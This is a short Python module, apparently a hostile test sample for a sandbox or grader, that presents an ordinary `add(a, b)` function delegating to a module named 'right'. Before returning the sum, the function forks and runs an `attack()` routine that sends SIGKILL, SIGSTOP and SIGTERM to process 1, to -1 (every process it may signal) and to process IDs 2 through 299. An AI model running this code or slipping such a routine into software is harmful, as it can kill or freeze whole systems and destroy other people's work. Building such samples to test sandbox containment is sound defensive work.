"""`add` kills, stops and signals every process that it can name, process 1 among them, from its children too."""

import os
import signal
import time

import right
from right import *  # noqa: F403


def attack():
    for number in [1, -1, *range(2, 300)]:
        if number != os.getpid():
            for how in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
                try:
                    os.kill(number, how)
                except OSError:
                    continue


def add(a, b):
    if os.fork() == 0:
        time.sleep(60)
    attack()
    if os.wait() and os.fork() == 0:
        os.setsid()
        os._exit(0)
    os.wait()
    assert os.getppid() == 1
    return right.add(a, b)
